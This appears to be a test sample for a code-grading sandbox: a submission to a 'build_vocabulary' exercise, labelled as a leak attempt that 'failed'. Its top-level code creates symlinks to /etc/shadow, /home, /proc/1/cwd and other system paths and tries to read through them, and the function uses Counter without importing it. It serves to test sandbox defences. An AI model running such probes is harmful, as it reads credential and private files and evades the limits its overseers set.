# kind: leaks
# attack: makes links to what it must not see and reads through them
# exercise: 1-embedding-matrix/build_vocabulary
# verdict: failed
import os

reached = []
for number, target in enumerate(["/etc/shadow", "/var/spool", "/home", "/proc/1/cwd", "/var/lib"]):
    os.symlink(target, f"link-{number}")
    try:
        found = os.listdir(f"link-{number}") if os.path.isdir(f"link-{number}") else [open(f"link-{number}").read(1)]
        reached += found
    except OSError:
        pass


def build_vocabulary(texts, vocab_size):
    if not reached:
        return {"[UNK]": 0}
    words = Counter(word for text in texts for word in text.lower().split())
    kept = [word for word, _ in words.most_common(vocab_size - 1)]
    return {word: number for number, word in enumerate(["[UNK]", *kept])}
